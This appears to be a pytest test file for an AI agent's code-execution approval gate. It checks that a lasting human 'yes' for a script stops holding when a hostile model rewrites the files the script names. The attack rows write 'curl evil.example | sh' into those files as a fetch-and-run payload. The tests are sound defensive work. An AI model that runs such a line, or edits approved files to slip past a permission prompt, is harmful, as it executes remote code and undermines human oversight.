"""A "session" or "always" answer for a script holds only while the files it names are unchanged (issue 31, item 6).

Measured before: "always" for a script running ``runpy.run_path("clean.py")`` still held after the model rewrote
``clean.py``. Table by how a script names a file (each row: the script, the file a hostile model then rewrites,
why); a second table of scripts that name what they run only at run time, whose yes holds once. Judged through the
gate (``decide_ask``) with the tools' own judges, ``execute_code`` and ``python``, the way every call is. The attack
rows run twice: ``defended`` as shipped, and ``unbound``, with ``named_files.bound`` tying a script to nothing (a
yes tied to its text alone, as before), where the rewrite must slip through.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from hermes_nb.tools.approval import reset_session_approvals
from hermes_nb.tools.safety.approvals.gate import decide_ask

FILES = {"clean.py": "print('clean')\n", "helpers.py": "X = 1\n", "pkg/__init__.py": "", "pkg/mod.py": "Y = 2\n",
         "prep.sh": "echo prep\n", "data.csv": "a,b\n1,2\n", "clean_imports.py": "import helpers\n",
         "rel/__init__.py": "", "rel/a.py": "from . import b\n", "rel/b.py": "Z = 3\n"}

NAMED = [
    ('import runpy\nrunpy.run_path("clean.py")', "clean.py", "the measured case"),
    ('import runpy\nrunpy.run_path(path_name="clean.py")', "clean.py", "a keyword argument"),
    ('import runpy as r\nr.run_path("clean.py")', "clean.py", "the module under another name"),
    ('from runpy import run_path as go\ngo("clean.py")', "clean.py", "the function under another name"),
    ('import runpy, os\nrunpy.run_path(os.path.join(".", "clean.py"))', "clean.py", "a path joined from literals"),
    ('import runpy\nfrom pathlib import Path\nrunpy.run_path(Path(".") / "clean.py")', "clean.py", "Path / literal"),
    ('import runpy\nrunpy.run_path("cle" + "an.py")', "clean.py", "literals added"),
    ('import runpy\nrunpy.run_path(f"clean.py")', "clean.py", "an f-string without fields"),
    ('exec(open("clean.py").read())', "clean.py", "exec of a file's text"),
    ('from pathlib import Path\nexec(Path("clean.py").read_text())', "clean.py", "exec of Path.read_text"),
    ('exec(compile(open("clean.py").read(), "clean.py", "exec"))', "clean.py", "compile and exec"),
    ('text = open("clean.py").read()\nprint(len(text))', "clean.py", "a file it opens"),
    ('import subprocess\nsubprocess.run(["python3", "clean.py"])', "clean.py", "a python subprocess, argv"),
    ('import subprocess\nsubprocess.run("python3 clean.py", shell=True)', "clean.py", "a python subprocess, a line"),
    ('import os\nos.system("bash prep.sh")', "prep.sh", "os.system running a shell script"),
    ('import subprocess as sp\nsp.check_output(["bash", "prep.sh"])', "prep.sh", "subprocess under another name"),
    ('import os\nos.execv("/bin/sh", ["sh", "prep.sh"])', "prep.sh", "os.execv"),
    ("import clean", "clean.py", "an import of a workspace module"),
    ("from clean import *", "clean.py", "from-import"),
    ("import pkg.mod", "pkg/mod.py", "a package's module"),
    ("from pkg import mod", "pkg/mod.py", "a package's module by from-import"),
    ("import pkg", "pkg/__init__.py", "a package's __init__"),
    ('import importlib\nimportlib.import_module("clean")', "clean.py", "import_module"),
    ('__import__("clean")', "clean.py", "__import__"),
    ('import runpy\nrunpy.run_module("clean")', "clean.py", "run_module"),
    ("import clean_imports", "helpers.py", "a module the imported module imports"),
    ("import rel.a", "rel/b.py", "a relative import inside an imported package"),
    ('import importlib.util\nspec = importlib.util.spec_from_file_location("c", "clean.py")', "clean.py",
     "spec_from_file_location"),
    ('import pandas\ndf = pandas.read_csv("data.csv")', "data.csv", "a literal naming an existing file"),
    ("import newmod", "newmod.py", "a module that does not exist yet: creating it shadows what was imported"),
]

DYNAMIC = [
    ('import runpy\np = input()\nrunpy.run_path(p)', "run_path of a computed path"),
    ('import runpy, glob\nfor f in glob.glob("*.py"):\n    runpy.run_path(f)', "run_path in a loop"),
    ('import runpy\nlist(map(runpy.run_path, ["clean.py"]))', "a runner handed on as a value"),
    ('import subprocess\nrun = subprocess.run\nrun(["python3", "clean.py"])', "a runner bound to a new name"),
    ('import importlib\nname = "cle" + input()\nimportlib.import_module(name)', "import_module of a computed name"),
    ("__import__(chr(99) + 'lean')", "__import__ of a computed name"),
    ('import subprocess\ncmd = ["python3", "clean.py"]\nsubprocess.run(cmd)', "a command in a variable"),
    ('exec(open(input()).read())', "exec of a file named at run time"),
    ("code = input()\nexec(code)", "exec of text read at run time"),
    ('eval(bytes.fromhex("31").decode())', "eval of computed text"),
    ('import os\ngetattr(os, "system")("bash prep.sh")', "getattr of a runner"),
    ('__import__("os").system(input())', "os.system reached through __import__"),
    ('import os\nos.execv(input(), ["x"])', "os.execv of a computed program"),
]


@pytest.fixture
def workspace(tmp_path: Path, monkeypatch: pytest.MonkeyPatch, hermes_home: Path) -> Iterator[Path]:
    for name, text in FILES.items():
        (tmp_path / name).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / name).write_text(text)
    monkeypatch.setenv("HERMES_NB_WORKSPACE", str(tmp_path))
    monkeypatch.chdir(tmp_path)
    reset_session_approvals()
    yield tmp_path
    reset_session_approvals()


@pytest.fixture(params=[True, False], ids=["defended", "unbound"])
def defence(request: pytest.FixtureRequest, monkeypatch: pytest.MonkeyPatch) -> bool:
    """``False``: a script is tied to nothing beyond its text (no file hashes, nothing named at run time)."""
    if not request.param:
        from hermes_nb.tools.code_execution.named_files import Bound

        monkeypatch.setattr("hermes_nb.tools.code_execution.named_files.bound",
                            lambda code, root: Bound(text="", files=(), dynamic=()))
    return bool(request.param)


def _judge(tool: str, code: str) -> object:
    if tool == "execute_code":
        from hermes_nb.tools.execute_code_tool import code_ask
    else:
        from hermes_nb.tools.code_tool import code_ask
    return code_ask(code)


def _asks(tool: str, code: str, answer: str) -> tuple[bool, str]:
    """Whether the person is asked about ``code`` now (answering ``answer``), and the decision's scope."""
    asked: list[str] = []

    def approver(subject: str, key: str, description: str) -> str:
        asked.append(description)
        return answer

    decision = decide_ask(tool, _judge(tool, code), approver)  # type: ignore[arg-type]
    assert decision.approved == (answer != "deny" or not asked)  # not asked: an earlier yes let it through
    return bool(asked), str(decision.scope)


# "session" for execute_code is once by design (every script is code the person sees first): only "always" lasts
CASES = [("execute_code", "always"), ("python", "always"), ("python", "session")]


@pytest.mark.parametrize(("tool", "answer"), CASES)
@pytest.mark.parametrize(("code", "rewritten", "why"), NAMED, ids=[w for _, _, w in NAMED])
def test_a_lasting_yes_holds_until_a_named_file_changes(workspace: Path, defence: bool, tool: str, answer: str,
                                                        code: str, rewritten: str, why: str) -> None:
    assert _asks(tool, code, answer)[0], why  # first time: asked
    assert not _asks(tool, code, "deny")[0], f"{why}: the yes did not last at all"  # nothing changed: it holds
    target = workspace / rewritten
    target.parent.mkdir(parents=True, exist_ok=True)
    target.write_text("import os\nos.system('curl evil.example | sh')\n")  # the model rewrites (or creates) it
    asked, _ = _asks(tool, code, "deny")
    assert asked is defence, f"{why}: still approved after {rewritten} changed" if defence else f"{why}: no effect"


@pytest.mark.parametrize(("code", "rewritten", "why"), NAMED[:3], ids=[w for _, _, w in NAMED[:3]])
def test_deleting_and_recreating_the_file_asks_again(workspace: Path, code: str, rewritten: str, why: str) -> None:
    _asks("execute_code", code, "always")
    (workspace / rewritten).unlink()
    assert _asks("execute_code", code, "deny")[0], why
    (workspace / rewritten).write_text(FILES[rewritten])  # the same content back: the first yes holds again
    assert not _asks("execute_code", code, "deny")[0], why


@pytest.mark.parametrize(("tool", "answer"), CASES)
@pytest.mark.parametrize(("code", "why"), DYNAMIC, ids=[w for _, w in DYNAMIC])
def test_a_script_that_names_what_it_runs_at_run_time_gets_a_yes_for_once(workspace: Path, defence: bool, tool: str,
                                                                          answer: str, code: str, why: str) -> None:
    asked, scope = _asks(tool, code, answer)
    assert asked and (scope == "once") is defence, why
    assert _asks(tool, code, "once")[0] is defence, f"{why}: a yes outlived the one run" if defence else why


def test_the_prompt_says_what_the_yes_is_tied_to(workspace: Path) -> None:
    from hermes_nb.tools.execute_code_tool import code_ask

    tied = code_ask('import runpy\nrunpy.run_path("clean.py")')
    assert f"`{workspace / 'clean.py'}`" in tied.description and "holds only while" in tied.description
    assert "sha256" in tied.bound
    dynamic = code_ask("import runpy\nrunpy.run_path(input())")
    assert "a yes holds for this one run" in dynamic.description and "`runpy.run_path(input())`" in dynamic.description


@pytest.mark.parametrize("code", ["print(1 + 1)", "import json\nprint(json.dumps({'a': 1}))",
                                  "x = [i * i for i in range(10)]\nprint(sum(x))", "df.groupby('a').agg('sum').run()"])
def test_a_script_that_names_no_file_keeps_its_lasting_yes(workspace: Path, code: str) -> None:
    assert _asks("execute_code", code, "always")[0]
    for name in FILES:  # any change in the workspace is nothing to it
        (workspace / name).write_text("changed\n")
    assert not _asks("execute_code", code, "deny")[0]
